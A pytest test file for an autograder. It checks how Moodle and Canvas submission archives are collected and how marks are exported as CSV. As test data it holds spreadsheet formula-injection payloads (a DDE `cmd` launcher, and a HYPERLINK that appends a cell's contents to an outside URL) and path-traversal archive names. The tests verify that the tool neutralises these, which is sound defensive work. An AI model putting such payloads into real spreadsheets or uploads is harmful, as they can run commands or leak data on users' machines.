"""Submissions as Moodle and Canvas hand them out, and marks as they take them back."""

import csv
import io
import shutil
import zipfile
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook
from test_class import LESSON, NAME, POINTS, WRONG, new_gradebook, notebook  # noqa: F401 (a fixture)

from autograde.__main__ import main
from autograde.grading.classroom import Course, grade_class
from autograde.lessons.build import source_notebook
from autograde.lessons.lesson import ROOT, CourseError, read_lesson
from autograde.lms.collecting import collect, told
from autograde.lms.participants import read_participants
from autograde.lms.spreadsheets import CsvExport, quoted

TRAINS = read_lesson("07_convolutional_vae")
RIGHT = notebook()
# A grading worksheet as Moodle 4 writes it, and a gradebook as Canvas exports it.
WORKSHEET = (
    '\ufeffIdentifier,"Full name","Email address",Status,Grade,"Maximum grade","Grade can be changed",'
    '"Last modified (submission)","Last modified (grade)","Feedback comments"\r\n'
    '"Participant 4711","Ada Lovelace",ada@example.org,"Submitted for grading",,100.00,Yes,'
    '"Friday, 27 November 2026, 11:58 PM",-,\r\n'
    '"Participant 4712","Bob O\'Hara",bob@example.org,"Submitted for grading",,100.00,Yes,'
    '"Friday, 27 November 2026, 11:59 PM",-,\r\n'
    '"Participant 4713","=cmd|\' /C calc\'!A0",zoe@example.org,"No submission",,100.00,Yes,-,-,\r\n'
)
GRADEBOOK = (
    "Student,ID,SIS User ID,SIS Login ID,Section,00_start_here (98765),Essay (3),Assignments Current Score\n"
    f"    Points Possible,,,,,{POINTS},10,(read only)\n"
    '"Lovelace, Ada",101,S1,ada,Monday,,7,70\n'
    '"O\'Hara, Bob",102,S2,bob,Monday,,8,80\n'
    '"Student, Test",103,,97f,Monday,,,\n'
)


def packed(**files: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return made.getvalue()


def download(folder: Path, files: dict[str, bytes]) -> Path:
    path = folder / "download.zip"
    path.write_bytes(packed(**files))
    return path


def listed(folder: Path, text: str):
    path = folder / "participants.csv"
    path.write_bytes(text.encode())
    return read_participants(path)


def handed_in(course: Course) -> dict[str, set[str]]:
    """Files by student and lesson, as "ada/00_start_here"."""
    root = course.root / "grading" / "submitted"
    found = {}
    for path in root.rglob("*"):
        if path.is_file():
            student, lesson, *rest = path.relative_to(root).parts
            found.setdefault(f"{student}/{lesson}", set()).add("/".join(rest))
    return found


@pytest.fixture
def empty(tmp_path, new_gradebook) -> Course:  # noqa: F811
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    made = Course.find(tmp_path)
    shutil.copy(new_gradebook, tmp_path / "grading")
    return made


MOODLE_FOLDERS = {
    f"Ada Lovelace_4711_assignsubmission_file_/{NAME}": RIGHT,
    f"Bob O'Hara_4712_assignsubmission_file_/{LESSON.name}.zip": packed(**{NAME: RIGHT}),
}
MOODLE_FLAT = {
    f"Ada Lovelace_4711_assignsubmission_file_{NAME}": RIGHT,
    f"Group A-Bob O'Hara_4712_assignsubmission_file_{LESSON.name}.zip": packed(**{NAME: RIGHT}),
}
MOODLE_NEWER = {name.replace("file_/", "file/"): data for name, data in MOODLE_FOLDERS.items()}


@pytest.mark.parametrize("files", [MOODLE_FOLDERS, MOODLE_FLAT, MOODLE_NEWER], ids=["folders", "flat", "newer"])
def test_moodles_download_goes_to_whom_its_worksheet_names(empty, tmp_path, files, monkeypatch):
    monkeypatch.setenv("TZ", "Europe/Berlin")
    result = collect(empty, download(tmp_path, files), listed(tmp_path, WORKSHEET))
    assert result.unplaced == []
    assert handed_in(empty) == {
        f"ada@example.org/{LESSON.name}": {NAME, "timestamp.txt"},
        f"bob@example.org/{LESSON.name}": {f"{LESSON.name}.zip", "timestamp.txt"},
    }
    assert str(empty.timestamp("ada@example.org", LESSON.name)) == "2026-11-27 22:58:00"  # local time there, UTC here


def test_moodles_numbers_of_another_assignment_place_nothing(empty, tmp_path):
    files = {f"Bob O'Hara_4711_assignsubmission_file_/{NAME}": RIGHT}
    result = collect(empty, download(tmp_path, files), listed(tmp_path, WORKSHEET))
    assert "4711 is Ada Lovelace in participants.csv: is it another assignment's list?" in result.unplaced[0]
    assert handed_in(empty) == {}


def test_canvas_download_keeps_weights_beside_their_notebook(empty, tmp_path):
    files = {
        f"lovelaceada_101_5550_{TRAINS.name}-1.ipynb": nbformat.writes(source_notebook(TRAINS)).encode(),
        "lovelaceada_101_5551_vae-1.safetensors": b"weights",
        f"oharabob_LATE_102_5552_{LESSON.name}.ipynb.txt": RIGHT,
        "someone_109_5553_Untitled.ipynb": RIGHT,
    }
    result = collect(empty, download(tmp_path, files), listed(tmp_path, GRADEBOOK))
    assert handed_in(empty) == {
        f"ada/{TRAINS.name}": {f"{TRAINS.name}.ipynb", "vae.safetensors"},
        f"bob/{LESSON.name}": {NAME},
    }
    assert result.late == ["bob"] and "late, Canvas says: bob" in told(result)
    (sentence,) = result.unplaced
    assert sentence == "someone: nobody in participants.csv can be meant"
    # Without a list, a student of Canvas is called by Canvas's number: it is the same in every assignment.
    assert {name for name, _, _ in collect(empty, tmp_path / "download.zip").placed} == {"101", "102", "109"}


def test_canvas_names_with_underscores_and_of_blind_marking(empty, tmp_path):
    files = {
        f"de_la_cruz_kai_LATE_104_5554_{NAME}": RIGHT,
        f"anon_aB3dE_5555_{NAME}": RIGHT,
        "anon_aB3dE_5556_vae.safetensors": b"weights",
        f"LATE_anon_xY9zW_5557_{LESSON.name}.zip": packed(**{NAME: RIGHT}),
        "lovelaceada_101_text.html": b"<p>",
    }
    result = collect(empty, download(tmp_path, files))
    assert handed_in(empty) == {
        f"104/{LESSON.name}": {NAME},
        f"aB3dE/{LESSON.name}": {NAME, "vae.safetensors"},
        f"xY9zW/{LESSON.name}": {f"{LESSON.name}.zip"},
    }
    assert sorted(result.late) == ["104", "xY9zW"]
    assert result.unplaced == ["lovelaceada_101_text.html: text typed in Canvas is not read"]


def test_moodles_group_of_those_in_none_is_somebody_to_ask_about(empty, tmp_path):
    files = {f"Group A_12_assignsubmission_file/{NAME}": RIGHT, f"Default group_assignsubmission_file/{NAME}": RIGHT}
    result = collect(empty, download(tmp_path, files), listed(tmp_path, WORKSHEET))
    assert sorted(result.unplaced) == [
        "Default group: nobody in participants.csv can be meant",
        "Group A: nobody in participants.csv can be meant",
    ]


WEEK = {
    "moodle": ("Ada Lovelace_4711_assignsubmission_file_/", "Bob O'Hara_4712_assignsubmission_file_/", WORKSHEET),
    "canvas": ("lovelaceada_101_5550_", "oharabob_LATE_102_5551_", GRADEBOOK),
}


@pytest.mark.parametrize("form", WEEK)
def test_what_a_platform_gives_is_collected_graded_and_given_back(empty, tmp_path, monkeypatch, capsys, form):
    ada, bob, people = WEEK[form]
    source = download(tmp_path, {f"{ada}{NAME}": RIGHT, f"{bob}{NAME}": notebook(bits_per_dim=WRONG)})
    (tmp_path / "people.csv").write_bytes(people.encode())
    monkeypatch.chdir(empty.root)
    assert main(["collect", str(source), "--participants", "people.csv"]) == 0
    assert main(["grade", "00"]) == 0
    capsys.readouterr()
    rows, _ = marks_of(empty, monkeypatch, capsys, "--format", form, "--from", "people.csv")
    by, column = ("Identifier", "Grade") if form == "moodle" else ("ID", "00_start_here (98765)")
    marks = {row[by]: row[column] for row in rows}
    full, (right, wrong) = (100, ("Participant 4711", "Participant 4712")) if form == "moodle" else (POINTS, ("101", "102"))
    assert float(marks[right]) == full
    assert 0 < float(marks[wrong]) < full


def test_a_folder_of_what_hand_in_packs_needs_no_list(empty, tmp_path):
    one = packed(**{NAME: RIGHT})
    files = {
        f"class/{LESSON.name}_ada.zip": one,
        f"class/bob_{LESSON.name}.zip": one,
        f"class/kai/{LESSON.name}.zip": one,
        f"class/zoe/{LESSON.name}/{NAME}": RIGHT,
        f"class/{LESSON.name} (1).zip": one,
        "class/.DS_Store": b"",
        "__MACOSX/class/._x": b"",
    }
    result = collect(empty, download(tmp_path, files))
    assert {name for name, _, _ in result.placed} == {"ada", "bob", "kai", "zoe"}
    (sentence,) = result.unplaced
    assert sentence.startswith(f"{LESSON.name} (1).zip: nothing says whose it is")
    assert handed_in(empty)[f"zoe/{LESSON.name}"] == {NAME}
    unpacked = tmp_path / "unpacked"
    zipfile.ZipFile(tmp_path / "download.zip").extractall(unpacked)
    again = collect(empty, unpacked)
    assert len(again.placed) == 4
    assert {what for _, _, what in again.placed} == {"unchanged"}


def test_nothing_is_lost_when_somebody_hands_in_again(empty, tmp_path):
    collect(empty, download(tmp_path, {f"ada/{NAME}": b"first"}))
    result = collect(empty, download(tmp_path, {f"ada/{NAME}": RIGHT}))
    assert (empty.submission_folder("ada", LESSON.name) / NAME).read_bytes() == RIGHT
    (before,) = (empty.root / "grading" / "replaced").rglob(NAME)
    assert before.read_bytes() == b"first"
    assert str(before.parent) in told(result)


@pytest.mark.parametrize(
    ("name", "data", "says"),
    [
        (f"ada/../../bob/00_start_here/{NAME}", RIGHT, "leads out of the archive"),
        (f"/etc/{NAME}", RIGHT, "leads out of the archive"),
        (f"C:\\ada\\{NAME}", RIGHT, "leads out of the archive"),
        (f"ada/{'x' * 300}.ipynb", RIGHT, "too long"),
        ("Ada Lovelace_4711_assignsubmission_onlinetext_/onlinetext.html", b"<p>", "text typed in Moodle"),
        ("Ada Lovelace_4711_assignsubmission_file_/timestamp.txt", b"2020-01-01", "is not taken from students"),
        ("ada/essay.pdf", b"%PDF", "no lesson's notebook is in it (essay.pdf)"),
        ("notes.pdf", b"%PDF", "nothing says whose it is"),
        (f"..ada/{NAME}", RIGHT, "no student can be called '..ada'"),
    ],
)
def test_what_cannot_be_placed_is_said_and_hurts_nobody(empty, tmp_path, monkeypatch, capsys, name, data, says):
    source = download(tmp_path, {name: data, f"bob/{NAME}": RIGHT})
    before = source.read_bytes()
    monkeypatch.chdir(empty.root)
    assert main(["collect", str(source)]) == 1
    said = capsys.readouterr()
    assert says in said.out and "1 could not be placed" in said.err
    assert handed_in(empty) == {f"bob/{LESSON.name}": {NAME}}
    assert source.read_bytes() == before


def test_a_file_that_unpacks_to_more_than_it_may_is_left_out(empty, tmp_path, monkeypatch):
    monkeypatch.setattr("autograde.lms.collecting.LARGEST_FILES", 1 << 20)
    source = download(tmp_path, {f"ada/{NAME}": RIGHT, "ada/zeros.npy": bytes(2 << 20), f"bob/{NAME}": bytes(2 << 20)})
    assert source.stat().st_size < 1 << 20
    result = collect(empty, source)
    assert handed_in(empty) == {f"ada/{LESSON.name}": {NAME}}
    assert sum("larger than 1 MB" in sentence for sentence in result.unplaced) == 2
    assert "no lesson's notebook is in it (nothing that can be read)" in result.unplaced[-1]


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["collect", "nothing.zip"], "there is no nothing.zip"),
        (["collect", "nbgrader_config.py"], "is no zip archive"),
        (["collect", "empty.zip"], "holds no file"),
        (["collect", "empty.zip", "--participants", "odd.csv"], "has no column that names anybody"),
        (["collect", "empty.zip", "--lesson", "77"], "no lesson is called '77'"),
        (["marks", "00"], "holds no marks of 00_start_here"),
        (["marks", "77"], "no lesson is called '77'"),
    ],
)
def test_bad_input_gets_one_clear_line(empty, monkeypatch, capsys, words, says):
    (empty.root / "empty.zip").write_bytes(packed())
    (empty.root / "odd.csv").write_text("colour,taste\nred,sour\n")
    monkeypatch.chdir(empty.root)
    assert main(words) == 1
    (said,) = capsys.readouterr().err.strip().splitlines()
    assert said.startswith("error: ") and says in said


@pytest.fixture(scope="module")
def graded(tmp_path_factory, new_gradebook) -> Course:  # noqa: F811
    """ada is right, bob wrong in one exercise, eve is unreadable, kai handed in nothing."""
    root = tmp_path_factory.mktemp("graded")
    shutil.copy(ROOT / "nbgrader_config.py", root)
    made = Course.find(root)
    shutil.copy(new_gradebook, root / "grading")
    for student, data in {"ada": RIGHT, "bob": notebook(bits_per_dim=WRONG), "eve": b"<html>"}.items():
        made.submission_folder(student, LESSON.name).mkdir(parents=True)
        (made.submission_folder(student, LESSON.name) / NAME).write_bytes(data)
    with Gradebook(*made.database) as book:
        book.add_student("kai", first_name='=HYPERLINK("http://x")', last_name="Ito, K")
    grade_class(made, LESSON, progress=False)
    return made


def marks_of(course: Course, monkeypatch, capsys, *words: str) -> tuple[list[dict[str, str]], str]:
    monkeypatch.chdir(course.root)
    assert main(["marks", "00", *words]) == 0
    *remarks, path = capsys.readouterr().out.strip().splitlines()
    return list(csv.DictReader(io.StringIO(Path(path).read_text(encoding="utf-8")))), "\n".join(remarks)


def test_a_table_of_marks_for_a_spreadsheet(graded, monkeypatch, capsys):
    rows, said = marks_of(graded, monkeypatch, capsys, "--exercises")
    rows = {row["student"]: row for row in rows}
    bob = next(mark.points for mark in graded.saved_marks("bob", LESSON.name).exercises if mark.exercise == "bits_per_dim")
    assert rows["ada"]["points"] == f"{POINTS:g}" and float(rows["bob"]["points"]) < POINTS
    assert float(rows["bob"]["bits_per_dim"]) == bob == 0
    assert rows["eve"]["points"] == rows["kai"]["points"] == ""
    assert rows["kai"]["first_name"] == '\'=HYPERLINK("http://x")' and rows["kai"]["last_name"] == "Ito, K"
    assert said == "no mark yet, since a human must look: eve"


def test_canvas_gets_its_own_ids_and_column_back(graded, monkeypatch, capsys):
    (graded.root / "canvas.csv").write_text(GRADEBOOK)
    rows, said = marks_of(graded, monkeypatch, capsys, "--format", "canvas", "--from", "canvas.csv")
    title = "00_start_here (98765)"
    assert list(rows[0]) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", title]
    assert rows[0]["Student"] == "    Points Possible" and rows[0][title] == f"{POINTS:g}"
    assert {row["ID"]: row[title] for row in rows[1:]}.keys() == {"101", "102"}
    assert rows[1] == {
        "Student": "Lovelace, Ada", "ID": "101", "SIS User ID": "S1", "SIS Login ID": "ada", "Section": "Monday", title: f"{POINTS:g}"
    }  # fmt: skip
    assert "not in canvas.csv: eve" in said
    # First and last names apart, as Canvas exports them on request; and a mark of before stays, where there is none yet.
    (graded.root / "names.csv").write_text(
        "LastName,FirstName,ID,SIS User ID,SIS Login ID,Integration ID,Section,00_start_here (98765)\n"
        f"    Points Possible,,,,,,,{POINTS}\n"
        "Lovelace,Ada,101,S1,ada,,Monday,1\nNoether,Eve,105,S5,eve,,Monday,4\n"
    )
    rows, _ = marks_of(graded, monkeypatch, capsys, "--format", "canvas", "--from", "names.csv")
    assert list(rows[0].values()) == ["    Points Possible", "", "", "", "", "", "", f"{POINTS:g}"]
    assert {row["ID"]: row[title] for row in rows[1:]} == {"101": f"{POINTS:g}", "105": "4"}
    rows, _ = marks_of(
        graded, monkeypatch, capsys, "--format", "canvas", "--from", "canvas.csv", "--column", "Essay", "--exercises"
    )
    assert list(rows[0])[5:] == ["Essay (3)", *(f"{LESSON.name} {name}" for name in LESSON.exercises)]
    assert (rows[0]["Essay (3)"], rows[1]["Essay (3)"]) == ("10", "10")  # Canvas gives ten points for it


def test_moodles_worksheet_comes_back_with_grades_filled_in(graded, monkeypatch, capsys):
    (graded.root / "moodle.csv").write_bytes(
        WORKSHEET.replace("ada@example.org", "ada")
        .replace("bob@example.org", "BOB")
        .replace('11:59 PM",-,', '11:59 PM",-,- a comment')
        .encode()
    )
    rows, said = marks_of(graded, monkeypatch, capsys, "--format", "moodle", "--from", "moodle.csv")
    grades = {row["Identifier"]: row["Grade"] for row in rows}
    share = graded.saved_marks("bob", LESSON.name).points / POINTS
    assert grades["Participant 4711"] == "100"
    assert float(grades["Participant 4712"]) == pytest.approx(100 * share, abs=1e-3)
    assert grades["Participant 4713"] == ""
    # What Moodle reads again comes back as it was: a quote would become part of it.
    assert (rows[1]["Last modified (grade)"], rows[1]["Feedback comments"]) == ("-", "- a comment")
    assert rows[0]["Last modified (submission)"] == "Friday, 27 November 2026, 11:58 PM"
    assert rows[2]["Full name"] == "'=cmd|' /C calc'!A0"
    assert "marks are multiplied by" in said


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["--format", "moodle"], "needs the grading worksheet"),
        (["--format", "canvas"], "needs the gradebook"),
        (["--format", "moodle", "--from", "canvas.csv"], "no column is called 'Grade'"),
        (["--format", "canvas", "--from", "moodle.csv"], "has no columns Student, ID and Section"),
        (["--format", "moodle", "--from", "short.csv"], "has no column Last modified (grade)"),
        (["--format", "canvas", "--from", "canvas.csv", "--column", "Essai"], "no column is called 'Essai'"),
        (["--format", "canvas", "--from", "canvas.csv", "--output", "canvas.csv"], "is the platform's own file"),
        (["--format", "canvas", "--from", "latin.csv"], "is not a CSV in UTF-8"),
        (["--format", "canvas", "--from", "missing.csv"], "missing.csv"),
    ],
)
def test_a_list_that_does_not_fit_gets_one_clear_line(graded, monkeypatch, capsys, words, says):
    (graded.root / "canvas.csv").write_text(GRADEBOOK)
    (graded.root / "moodle.csv").write_text(WORKSHEET)
    (graded.root / "short.csv").write_text("Identifier,Grade\nParticipant 1,\n")
    (graded.root / "latin.csv").write_bytes("Student,ID\nZo\xeb,1\n".encode("latin-1"))
    monkeypatch.chdir(graded.root)
    assert main(["marks", "00", *words]) == 1
    (said,) = capsys.readouterr().err.strip().splitlines()
    assert said.startswith("error: ") and says in said
    assert (graded.root / "canvas.csv").read_text() == GRADEBOOK


@pytest.mark.parametrize("cell", ["=1+1", "+1-1", "-x", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_a_spreadsheet_would_run_are_quoted(cell):
    assert quoted(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["-1.5", "+3", "", "Ada", "O'Hara"])
def test_other_cells_stay(cell):
    assert quoted(cell) == cell


def test_nbgraders_own_export_is_a_table_that_runs_nothing(empty, tmp_path):
    formula = '=HYPERLINK("https://example.org/"&A1, "see, here")'
    with Gradebook(*empty.database) as book:
        book.add_student("ada", last_name=formula, first_name="@SUM(A1)", email="a,b@example.org")
        book.add_student("bob")
        plugin = CsvExport(to=str(tmp_path / "grades.csv"), student=["ada"])
        plugin.export(book)
    (row,) = csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text(encoding="utf-8")))
    assert (row["last_name"], row["first_name"], row["email"]) == (f"'{formula}", "'@SUM(A1)", "a,b@example.org")
    assert (row["assignment"], row["score"], float(row["max_score"])) == (LESSON.name, "0", POINTS)


def test_a_list_with_semicolons_is_read_and_two_of_one_name_are_told(empty, tmp_path):
    people = listed(tmp_path, "First name;Surname;Email address\nAda;Lovelace;ada@x\nAda;Lovelace;ada@y\n").people
    assert [person.email for person in people] == ["ada@x", "ada@y"]
    source = download(tmp_path, {f"Ada Lovelace_9_assignsubmission_file_/{NAME}": RIGHT})
    result = collect(empty, source, read_participants(tmp_path / "participants.csv"))
    assert result.unplaced == ["Ada Lovelace: 2 people in participants.csv can be meant"]
    with pytest.raises(CourseError, match="is empty"):
        listed(tmp_path, "")
